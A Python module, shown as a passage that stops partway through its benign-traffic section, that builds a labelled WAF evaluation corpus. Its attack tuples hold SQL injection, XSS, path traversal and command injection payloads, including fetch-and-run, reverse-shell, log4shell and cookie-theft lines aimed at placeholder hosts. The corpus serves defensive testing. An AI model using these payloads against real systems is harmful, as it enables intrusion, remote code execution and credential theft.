"""A labelled evaluation corpus for the WAF: attacks per category and benign traffic.

    for r in attacks():          # CorpusRequest(category="sqli", method="GET", ...)
        ...
    benign()                     # what a real site sees: pages, assets, search, JSON, forms

Attack payloads are public attack-pattern knowledge (OWASP testing guide and cheat sheets,
PayloadsAllTheThings-style lists, CVE write-ups), each delivered in several ways: URL-encoded
in the query, double-encoded, in a form body, in a JSON body, in a cookie or header, with case
and comment evasions. The expansion is deterministic, so figures are comparable run to run.
Benign requests cover pages, static assets, search queries with quotes and punctuation, JSON
APIs, form posts with free text, cookies and real browser user agents. Used by
`benchmarks/waf_eval.py` and the WAF tests; the load tests may draw attack traffic from it.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

from edgelab.policy.waf.engine import WafEngine, WafVerdict
from edgelab.policy.waf.request import WafRequest

CATEGORIES = ("sqli", "xss", "lfi", "rce", "scanner", "protocol")

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36"
)
BROWSER_UAS = (
    CHROME,
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
    "SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1",
)


@dataclass(frozen=True)
class CorpusRequest:
    category: str
    """An attack category from CATEGORIES, or `benign`."""
    method: str = "GET"
    path: str = "/"
    query: str = ""
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes | None = None
    note: str = ""
    """The payload and how it was delivered, for reports of what was missed."""


def _headers(ua: str = CHROME, **extra: str) -> dict[str, str]:
    h = {
        "Host": "shop.example.com",
        "User-Agent": ua,
        "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "Accept-Language": "en-GB,en;q=0.9",
        "Accept-Encoding": "gzip, deflate, br",
    }
    h.update({k.replace("_", "-"): v for k, v in extra.items()})
    return h


def _form(category: str, path: str, fields: dict[str, str], note: str, **hdr: str) -> CorpusRequest:
    body = urlencode(fields).encode()
    headers = _headers(**hdr)
    headers["Content-Type"] = "application/x-www-form-urlencoded"
    headers["Content-Length"] = str(len(body))
    return CorpusRequest(category, "POST", path, "", headers, body, note)


def _json(category: str, path: str, doc: object, note: str, **hdr: str) -> CorpusRequest:
    body = json.dumps(doc).encode()
    headers = _headers(**hdr)
    headers["Content-Type"] = "application/json"
    headers["Content-Length"] = str(len(body))
    return CorpusRequest(category, "POST", path, "", headers, body, note)


# -- attack payloads (public knowledge), per category ---------------------------------------

SQLI = (
    "1' OR '1'='1",
    "1' OR '1'='1' -- ",
    "admin'--",
    "admin' #",
    "' OR 1=1--",
    '" OR ""="',
    "1 OR 1=1",
    "' OR 'x'='x",
    "1' AND 1=2 UNION SELECT NULL,NULL--",
    "-1 UNION SELECT username, password FROM users",
    "1 UNION ALL SELECT NULL,version(),NULL--",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "1; DROP TABLE users--",
    "1'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
    "1 AND SLEEP(5)",
    "1' AND SLEEP(5) AND '1'='1",
    "1; WAITFOR DELAY '0:0:5'--",
    "1' AND (SELECT pg_sleep(5))--",
    "1 AND BENCHMARK(5000000,MD5(1))",
    "1' AND extractvalue(1,concat(0x7e,(SELECT user())))--",
    "1 AND updatexml(1,concat(0x7e,database()),1)",
    "' AND 1=CONVERT(int,(SELECT @@version))--",
    "1' ORDER BY 10--",
    "1' GROUP BY 1,2,3--",
    "' HAVING 1=1--",
    "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
    "1' AND IF(1=1,SLEEP(3),0)--",
    "' UNION SELECT load_file('/etc/passwd')--",
    "1' INTO OUTFILE '/var/www/shell.php'--",
    "1 or sleep(5)#",
    "') OR ('a'='a",
    "1' OR '1'='1' /*",
    "' or 1 in (select @@version)--",
    "1;SELECT * FROM users WHERE 't'='t",
    "1 AND 1=(SELECT COUNT(*) FROM sysobjects)",
    "' AND 1=(SELECT TOP 1 name FROM sys.tables)--",
    "x' AND email IS NULL; --",
    "1 UNION SELECT 1,group_concat(column_name) FROM information_schema.columns",
    "' OR username LIKE '%admin%",
    "1' and substr(version(),1,1)='5",
)

XSS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=prompt(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus=alert(1) x='",
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    '<a href="javascript:alert(1)">click</a>',
    "<details open ontoggle=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<object data="javascript:alert(1)">',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<marquee onstart=alert(1)>",
    '<div style="background:url(javascript:alert(1))">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "';alert(String.fromCharCode(88,83,83))//",
    '";alert(1);//',
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<isindex action=javascript:alert(1) type=image>",
    "{{constructor.constructor('alert(1)')()}}",
    '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<script>document.location='//evil.example/?c='+document.cookie</script>",
    "<svg><script>alert&#40;1&#41;</script>",
)

LFI = (
    "../../../../etc/passwd",
    "../../../../../../etc/shadow",
    "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/etc/passwd",
    "/etc/passwd%00.jpg",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "C:/boot.ini",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "php://input",
    "file:///etc/passwd",
    "expect://id",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "zip://uploads/avatar.zip#shell.php",
    "phar://uploads/avatar.jpg/shell.php",
    "../../../../var/www/html/wp-config.php",
    "../.git/config",
    "..;/..;/WEB-INF/web.xml",
    "/var/lib/mysql/my.cnf",
    "../../../../home/user/.ssh/id_rsa",
    "../../../../root/.bash_history",
    "http://203.0.113.66/shell.txt?",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "\\\\203.0.113.66\\share\\shell.php",
    "..%5c..%5c..%5cwindows%5csystem.ini",
)

LFI_PATHS = (
    "/static/../../../../etc/passwd",
    "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/images/..%2f..%2f..%2fetc%2fshadow",
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-config.php.bak",
    "/config/database.yml",
    "/backup.sql",
    "/.aws/credentials",
    "/server-status/../../etc/passwd",
    "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/.htpasswd",
    "/web.config",
    "/app/.DS_Store",
    "/.ssh/id_rsa",
)

RCE = (
    "; cat /etc/passwd",
    "| id",
    "|| whoami",
    "& ping -c 4 203.0.113.9",
    "&& uname -a",
    "`id`",
    "$(whoami)",
    "$(curl http://203.0.113.9/x.sh | sh)",
    "; wget http://203.0.113.9/bot -O /tmp/bot; chmod +x /tmp/bot; /tmp/bot",
    "127.0.0.1; nc -e /bin/sh 203.0.113.9 4444",
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    ";cat${IFS}/etc/passwd",
    "; /bin/bash -c 'id'",
    "| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "& cmd.exe /c dir C:\\",
    "| net user hacker P@ss /add",
    "; certutil -urlcache -split -f http://203.0.113.9/x.exe x.exe",
    "<?php system($_GET['c']); ?>",
    "<?php echo shell_exec('id'); ?>",
    "<?= `id` ?>",
    "phpinfo()",
    "system('id')",
    "eval(base64_decode('cGhwaW5mbygpOw=='))",
    "${jndi:ldap://203.0.113.9:1389/Exploit}",
    "${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.9/a}",
    "${jndi:dns://x.oast.example/a}",
    "{{7*7}}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{(#_='multipart/form-data').(#cmd='id')}",
    'O:8:"stdClass":1:{s:4:"exec";s:2:"id";}',
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    "; sleep 10",
    "$(sleep 10)",
    "a;python3 -c 'import os;os.system(\"id\")'",
)

SCANNER_UAS = (
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (X11; Linux x86_64) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "gobuster/3.6",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Wfuzz/3.1.0",
    "Mozilla/5.0 (compatible; Nessus)",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Acunetix",
    "w3af.org",
    "Mozilla/5.0 zgrab/0.x",
    "Havij",
    "Mozilla/5.0 (compatible; OpenVAS)",
    "Arachni/v1.5.1",
    "Mozilla/5.0 (Windows NT 10.0) Netsparker",
    "commix/v3.8 (https://commixproject.com)",
    "XSStrike",
    "feroxbuster/2.10.1",
    "ZmEu",
    "Morfeus Fucking Scanner",
    "Mozilla/5.0 (compatible; OWASP ZAP/2.14)",
    "joomscan",
    "WhatWeb/0.5.5",
    "skipfish/2.10b",
    "Hydra v9.5 (https://github.com/vanhauser-thc/thc-hydra)",
    "dotdotpwn v3.0",
    "fimap/1.00",
)

SCANNER_PATHS = (
    "/w00tw00t.at.ISC.SANS.DFind:)",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/phpmyadmin/scripts/setup.php",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/manager/html",
    "/jmx-console/",
    "/solr/admin/cores?action=STATUS",
    "/actuator/gateway/routes",
    "/cgi-bin/php5",
    "/muieblackcat",
    "/nessustest",
)


def _attack_values(category: str, payloads: tuple[str, ...], arg: str) -> Iterator[CorpusRequest]:
    """Each payload through several deliveries, rotating so every delivery is used."""
    deliveries: list[Callable[[str], CorpusRequest]] = [
        lambda p: CorpusRequest(
            category,
            "GET",
            "/search",
            f"{arg}={quote(p, safe='')}",
            _headers(),
            None,
            f"query: {p}",
        ),
        lambda p: CorpusRequest(
            category,
            "GET",
            "/page/1",
            f"{arg}={quote(quote(p, safe=''), safe='')}",
            _headers(),
            None,
            f"double-encoded query: {p}",
        ),
        lambda p: _form(category, "/login", {"user": "alice", arg: p}, f"form body: {p}"),
        lambda p: _json(
            category, "/api/items", {"name": "widget", "filter": {arg: p}}, f"json body: {p}"
        ),
        lambda p: CorpusRequest(
            category,
            "GET",
            "/account",
            "",
            _headers(Cookie=f"session=abc123; pref={quote(p, safe='')}"),
            None,
            f"cookie: {p}",
        ),
        lambda p: CorpusRequest(
            category,
            "GET",
            "/products",
            f"sort=price&{arg}={quote(p.upper() if category != 'lfi' else p, safe='=')}",
            _headers(),
            None,
            f"upper-case query: {p}",
        ),
    ]
    for i, payload in enumerate(payloads):
        for k in range(3):
            yield deliveries[(i + k * 2) % len(deliveries)](payload)


def _sqli_evasions() -> Iterator[CorpusRequest]:
    """Comment splitting, versioned comments, newlines, hex and char() obfuscation."""
    for p in (
        "1/**/UNION/**/SELECT/**/1,2,3",
        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
        "1%0aUNION%0aSELECT%0a1,2",
        "-1 uNiOn sElEcT 1,concat(0x3a,user()),3",
        "1' || '1'='1",
        "1' %26%26 '1'='1",
        "admin' or 1=1 limit 1 -- -",
        "1'%20AnD%20SlEeP(3)%23",
        "%27%20OR%20%271%27%3D%271",
        "1+UNION+SELECT+1,2,3",
    ):
        yield CorpusRequest("sqli", "GET", "/item", f"id={p}", _headers(), None, f"evasion: {p}")


def _xss_evasions() -> Iterator[CorpusRequest]:
    for p in (
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%26lt%3Bsvg%20onload%3Dalert(1)%26gt%3B",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "\\u003cimg src=x onerror=alert(1)\\u003e",
        "%3Cimg%0Asrc%3Dx%0Aonerror%3Dalert(1)%3E",
        "<sCrIpT>alert(1)</ScRiPt>",
        "%u003cscript%u003ealert(1)%u003c/script%u003e",
        "<svg%0Aonload=alert(1)>",
    ):
        yield CorpusRequest("xss", "GET", "/search", f"q={p}", _headers(), None, f"evasion: {p}")
    yield CorpusRequest(
        "xss",
        "GET",
        "/",
        "",
        _headers(Referer='https://x.example/"><script>alert(1)</script>'),
        None,
        "referer",
    )
    yield CorpusRequest(
        "xss", "GET", "/", "", _headers(ua="<script>alert(1)</script>"), None, "user-agent"
    )


def _lfi_extra() -> Iterator[CorpusRequest]:
    for p in LFI_PATHS:
        yield CorpusRequest("lfi", "GET", p, "", _headers(), None, f"path: {p}")
    for p in (
        "..%2F..%2F..%2Fetc%2Fpasswd",
        "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
        "....%2f....%2fetc%2fpasswd",
        "%u002e%u002e%u2215etc%u2215passwd",
    ):
        yield CorpusRequest(
            "lfi", "GET", "/download", f"file={p}", _headers(), None, f"raw-encoded: {p}"
        )


def _rce_extra() -> Iterator[CorpusRequest]:
    for ua in (
        "${jndi:ldap://203.0.113.9/a}",
        "() { :; }; /bin/bash -c 'cat /etc/passwd'",
        "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}",
    ):
        yield CorpusRequest("rce", "GET", "/", "", _headers(ua=ua), None, f"user-agent: {ua}")
    yield CorpusRequest(
        "rce",
        "GET",
        "/",
        "",
        _headers(X_Api_Version="${jndi:ldap://203.0.113.9/a}"),
        None,
        "header: log4shell",
    )
    # React2Shell (CVE-2025-55182): the React Server Components action payload.
    rsc = {
        "then": "$1:__proto__:then",
        "status": "resolved_model",
        "reason": -1,
        "value": '{"then":"$B1337"}',
        "_response": {
            "_prefix": "process.mainModule.require('child_process').execSync('id');",
            "_formData": {"get": "$1:constructor:constructor"},
        },
    }
    yield _json("rce", "/", rsc, "react2shell json", Next_Action="7f3a")
    yield _form(
        "rce", "/", {"0": json.dumps(rsc), "1": '"$@0"'}, "react2shell form", Next_Action="7f3a"
    )
    yield CorpusRequest(
        "rce", "GET", "/", "__proto__[isAdmin]=true", _headers(), None, "prototype pollution"
    )
    yield CorpusRequest(
        "rce",
        "GET",
        "/",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
        _headers(),
        None,
        "spring4shell",
    )


def _scanners() -> Iterator[CorpusRequest]:
    for i, ua in enumerate(SCANNER_UAS):
        path = ("/", "/admin", "/login", "/wp-login.php", "/index.php?id=1")[i % 5]
        p, _, q = path.partition("?")
        yield CorpusRequest("scanner", "GET", p, q, _headers(ua=ua), None, f"user-agent: {ua}")
    for path in SCANNER_PATHS:
        p, _, q = path.partition("?")
        yield CorpusRequest(
            "scanner", "GET", p, q, _headers(ua="Mozilla/5.0"), None, f"probe: {path}"
        )
    for name, value in (
        ("Acunetix-Product", "WVS/12.0"),
        ("X-Scanner", "Netsparker"),
        ("Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"),
    ):
        yield CorpusRequest(
            "scanner",
            "GET",
            "/",
            "",
            _headers(**{name.replace("-", "_"): value}),
            None,
            f"header: {name}",
        )


def _protocol() -> Iterator[CorpusRequest]:
    for m in ("TRACE", "TRACK", "DEBUG", "CONNECT"):
        yield CorpusRequest("protocol", m, "/", "", _headers(), None, f"method {m}")
    yield CorpusRequest(
        "protocol", "GET", "/", "", _headers(Content_Length="11"), b"hello=world", "GET with body"
    )
    yield CorpusRequest(
        "protocol", "HEAD", "/", "", _headers(Content_Length="4"), b"a=bc", "HEAD with body"
    )
    for q in (
        "lang=en%0d%0aSet-Cookie:%20session=attacker",
        "next=%0d%0aLocation:%20https://evil.example/",
        "q=%0aContent-Length:%200%0a%0aHTTP/1.1%20200%20OK",
        "x=%0d%0aX-Forwarded-For:%20127.0.0.1",
        "file=report.pdf%00.php",
        "name=admin%00",
        "q=%250d%250aSet-Cookie:x=1",
        "page=%252e%252e%252fadmin",
        "x=GET%20/admin%20HTTP/1.1%0d%0aHost:%20internal",
        "a=1&" + "&".join(f"p{i}=1" for i in range(300)),
    ):
        yield CorpusRequest("protocol", "GET", "/page/2", q, _headers(), None, f"query: {q[:60]}")
    for name, value in (
        ("Proxy", "http://203.0.113.9:8080"),
        ("X-Original-URL", "/admin"),
        ("X-Rewrite-URL", "/admin/users"),
        ("Lock-Token", "<opaquelocktoken:x>"),
        ("Content-Range", "bytes 0-10/20"),
    ):
        yield CorpusRequest(
            "protocol",
            "GET",
            "/",
            "",
            _headers(**{name.replace("-", "_"): value}),
            None,
            f"header: {name}",
        )
    for host in ("203.0.113.80", "127.0.0.1:8080"):
        h = _headers()
        h["Host"] = host
        yield CorpusRequest(
            "protocol", "GET", "/admin", "", h, None, f"numeric host {host} + admin"
        )
    body = b"a=1\r\n\r\nPOST /admin HTTP/1.1\r\nHost: internal\r\n\r\n"
    yield CorpusRequest(
        "protocol",
        "POST",
        "/login",
        "",
        {
            **_headers(),
            "Content-Type": "application/x-www-form-urlencoded",
            "Content-Length": str(len(body)),
        },
        body,
        "smuggled request in body",
    )


BOUNDARY_ATTACKS: tuple[tuple[str, str], ...] = (
    # Added on 2026-11-27 with the false-positive tuning: the attack side of each rule that was
    # narrowed (English-word commands, sleep() in SQL position, one ../ step, catalog names).
    ("rce", "; more /etc/passwd"),
    ("rce", "| head -c 100 /etc/shadow"),
    ("rce", "& find / -perm -4000"),
    ("rce", "&& curl http://203.0.113.9/x.sh"),
    ("rce", "; php -r 'system(\"id\");'"),
    ("rce", "| sh"),
    ("rce", "; ping -c 3 203.0.113.9"),
    ("sqli", "sleep(5)"),
    ("sqli", "1=sleep(5)"),
    ("sqli", "(select sleep(5))"),
    ("sqli", "1' and '1'='1' order by 3--"),
    ("sqli", "1 and 1=(select 1 from information_schema.tables limit 1)"),
    ("sqli", "1 AND 5646=CAST((CHR(113)||CHR(106)) AS NUMERIC)"),
    ("lfi", "../config.php"),
    ("lfi", "..\\web.config"),
    ("lfi", "..;/admin"),
    ("xss", "<a href=javascript:alert(1)>x</a>"),
    ("xss", "<svg><set onbegin=alert(1)>"),
)


def _boundary() -> Iterator[CorpusRequest]:
    for cat, p in BOUNDARY_ATTACKS:
        q = f"v={quote(p, safe='')}"
        yield CorpusRequest(cat, "GET", "/search", q, _headers(), None, f"boundary query: {p}")
        yield _form(cat, "/submit", {"v": p}, f"boundary form: {p}")


def attacks() -> list[CorpusRequest]:
    """Every attack request, in a fixed order."""
    out: list[CorpusRequest] = []
    out += _attack_values("sqli", SQLI, "id")
    out += _sqli_evasions()
    out += _attack_values("xss", XSS, "q")
    out += _xss_evasions()
    out += _attack_values("lfi", LFI, "file")
    out += _lfi_extra()
    out += _attack_values("rce", RCE, "host")
    out += _rce_extra()
    out += _scanners()
    out += _protocol()
    out += _boundary()
    return out


# -- benign traffic ---------------------------------------------------------------------------

PAGES = (
    "/",
    "/index.html",
    "/about",
    "/about/team",
    "/contact",
    "/blog",
    "/blog/2024/05/how-we-roast-coffee",
    "/blog/2023/11/why-we-moved-to-postgres",
    "/products",
    "/products/espresso-machine-pro-2",
    "/products/cold-brew-kit",
    "/category/kitchen/coffee",
    "/cart",
    "/checkout",
    "/account/orders",
    "/account/settings",
    "/help/shipping-and-returns",
    "/help/faq",
    "/careers/senior-sre",
    "/legal/privacy",
    "/legal/terms-of-service",
    "/page/12",
    "/page/13",
    "/docs/api/v2/authentication",
    "/docs/getting-started",
    "/docs/reference/config-file",
    "/news/2024-q1-results",
    "/events/berlin-2024",
    "/u/alice",
    "/u/bob.smith",
    "/tags/open-source",
    "/store/locations/london-soho",
)

ASSETS = (
    "/static/app.js",
    "/static/app.3f9a1c.js",
    "/static/vendor.min.js",
    "/static/css/site.css",
    "/static/css/print.css",
    "/static/img/logo.svg",
    "/static/img/hero@2x.png",
    "/static/fonts/inter-var.woff2",
    "/favicon.ico",
    "/robots.txt",
    "/sitemap.xml",
    "/manifest.webmanifest",
    "/apple-touch-icon.png",
    "/static/img/products/espresso-machine-pro-2_800x800.jpg",
    "/static/js/chunks/412.8c2d.js",
    "/static/video/intro.mp4",
    "/static/docs/user-guide-v3.pdf",
    "/.well-known/security.txt",
    "/static/img/team/o-reilly.jpg",
    "/static/css/theme.dark.css",
)

SEARCHES = (
    "espresso machine",
    "O'Reilly books",
    '"cold brew" kit',
    "men's running shoes size 10",
    "kids' toys under $20",
    "rock 'n' roll t-shirt",
    "AT&T phone plans",
    "50% off sale",
    "C++ programming",
    "C# vs Java",
    "node.js tutorial",
    "what is 2+2?",
    "how to fix error 404",
    "best laptop 2024 (13 inch)",
    "iphone 15 pro - case",
    "café au lait",
    "naïve bayes",
    "1/2 inch drill bit",
    "5 < 6 math worksheet",
    "select committee report",
    "union jack flag",
    "drop-down menu css",
    "update firmware router",
    "delete my account",
    "insert coin sound effect",
    "where is my order #12345",
    "100% cotton sheets",
    "salt & pepper shakers",
    "tom & jerry",
    "co-op games; multiplayer",
    "ben & jerry's ice cream",
    '"quoted phrase" -excluded',
    "price: $10-$20",
    "email@example.com",
    "https://example.com/product/123",
    "wait... what",
    "emoji 😀 socks",
    "größe 42 schuhe",
    "東京 ホテル",
    "l'été à paris",
    "it's a wonderful life",
    "sleep tracker watch",
    "cat toys",
    "ls engine swap",
    "id card holder",
    "ping pong table",
    "javascript: the good parts",
    "script writing course",
    "onload event handler tutorial",
    "1=1 matching pairs",
    "or/and logic gates",
    "<3 valentine's card",
    "table for 2 at 7pm",
    "passwd reset help",
    "system requirements",
    "exec chair",
    "bash birthday party ideas",
    "sql for beginners",
    "from paris to london",
    "having fun quotes",
    "order by date",
    "50/50 raffle",
    "net promoter score",
    "win.ini meaning",
    "etc etc",
    "alert sound iphone",
    "prompt engineering",
    "confirm email address",
    "document shredder",
    "window cleaner",
)

COMMENTS = (
    "Great product! Arrived quickly and works exactly as described.",
    "I'd love to see more colours -- maybe a dark green? Thanks!",
    'Doesn\'t fit my 2019 model; the description should say "2020+ only".',
    "Price: $49.99 & free shipping over $50. Worth it? Absolutely.",
    "My order (#A-20931) hasn't shipped yet; can you check?",
    "Tried it with oat milk & it's fine, 4/5 stars.",
    "Please select the size from the drop-down before adding to cart.",
    "We had a union meeting and everyone agreed: best coffee in the office!",
    "Line one\nLine two\nLine three with a tab\tand more.",
    "Use the <b>bold</b> button in the editor, not asterisks.",
    "I paid 100% of the invoice on 2024-03-01; reference: INV/2024/0042.",
    "Order by Friday for delivery on Monday, or choose express.",
    "Hi team, the link https://shop.example.com/cart?item=12&qty=2 gives an error.",
    "Is this compatible with Windows 11 and macOS 14?",
    "5 * 3 = 15, so the total for five boxes is £15.",
    "He said \"it's the best\" -- I'm not so sure :-)",
    "My email is jane.doe+shop@example.co.uk, please update it.",
    "Drop me a line if you need more details; happy to help.",
    "The command-line tool prints 'OK' when done.",
    "Kudos to the delivery driver; left it by the door as asked.",
    "Ich hätte gerne eine Rechnung mit MwSt.",
    "Où est ma commande ? Merci d'avance.",
    "Rated 10/10 -- would buy again!!!",
    "If (like me) you grind fresh, use setting 12-14.",
    "Is there a discount for orders of 10+ units?",
    "The update from version 2.1 to 2.2 fixed the noise issue.",
    "Cancel my subscription; I'm moving abroad.",
    "Product #42 and #43 are both out of stock -- any ETA?",
    "Replace the filter every 3 months (or sooner with hard water).",
    "Just wanted to say: thank you! <3",
)

HARD_TEXT = (
    # Added on 2026-11-27 while tuning false positives (a tuning set, like the rest of this
    # corpus; the second held-out set below was written earlier and is kept apart from it).
    "left join vs inner join example",
    "why is my select * slow on large tables",
    "sql injection prevention prepared statements",
    "how to write a having clause after group by",
    "mysql 'access denied for user' root@localhost",
    "ORDER BY RAND() alternative",
    'postgres: column "name" does not exist',
    'sqlite3.OperationalError: near "from": syntax error',
    "what is information_schema",
    "union all with different column counts",
    "update users set last_login = now() where id = ?",
    "tar -xzvf file.tar.gz meaning",
    "find . -name '*.log' -delete",
    "how to use xargs with find",
    "cron every 5 minutes */5 * * * *",
    "docker run -it ubuntu bash",
    "git log --oneline | head",
    "kill -9 vs kill -15",
    "what is /dev/null",
    "cd .. not working",
    "./configure && make && make install",
    "Coffee, tea & more",
    "search & find my phone",
    "Tips & tricks | less is more",
    "solve 2x + 3 = 7",
    "a < b < c ordering",
    "1/3 + 1/6 = 1/2",
    "x = (-b + sqrt(b^2 - 4ac)) / 2a",
    "<p> tag margin",
    "how to make <a> open in new tab",
    "<input type=date> format",
    "what does <!DOCTYPE html> do",
    "<!-- comment --> in html",
    "onload event not firing in safari",
    "/var/www/html permissions",
    "C:\\Windows\\Temp cleanup",
    "Love it!! <3 <3 <3",
    "Five stars -- no, six!",
    "The 'premium' version isn't worth it; get the basic.",
    '"Best purchase ever" - my husband',
    "Took 3-5 days; arrived @ 9pm (!!)",
    "I'm 5'4\" and the 32\" inseam fits",
    "Works great w/ my iPhone & iPad; not w/ my Mac :(",
    "order #991 -- still waiting; 2nd email",
    "Can I return it? I've had it < 30 days.",
    "it's 100% wool, not 'wool-blend' as I thought",
    "#blessed #coffee #morningvibes",
    "Sizes: S/M/L/XL -- I'd go one up.",
    "Meeting @ 3pm; bring the 'Q3' deck & laptop",
    "what is robots.txt?",
    "is config.php safe to share?",
    "sleep mask and ear plugs",
)
"""Hard free text (programming, shells, maths, HTML, punctuation-heavy reviews)."""

COOKIES = (
    "_ga=GA1.2.1283749283.1714035000; _gid=GA1.2.998877665.1714035000",
    "session=eyJ1c2VyIjoiYWxpY2UiLCJyb2xlIjoidXNlciJ9.ZkQ1aw.abcDEF123_-x; theme=dark",
    "OptanonConsent=isGpcEnabled=0&datestamp=Thu+Apr+25+2024+10%3A00%3A00+GMT%2B0100&version=202401.1.0&groups=C0001%3A1%2CC0002%3A0",
    "cart_id=8f14e45f-ceea-467f-a0e6-1b5c2d3e4f5a; currency=GBP; lang=en-GB",
    "_fbp=fb.1.1714035000000.1234567890; _gcl_au=1.1.123456789.1714035000",
    "csrftoken=Q8sZk2v9XyTq3LmN7pR1aB4cD6eF8gH0; sessionid=3k2j4h5g6f7d8s9a0",
    "__cf_bm=abcdefGHIJ1234567890.-_abcdef-1714035000-0-AbCdEf==; cf_clearance=xyz.123-456",
    "recently_viewed=12%2C44%2C91; ab_test=variant_b",
)

API_DOCS = (
    {
        "query": "espresso",
        "filters": {"price": {"min": 10, "max": 200}, "in_stock": True},
        "sort": "-rating",
    },
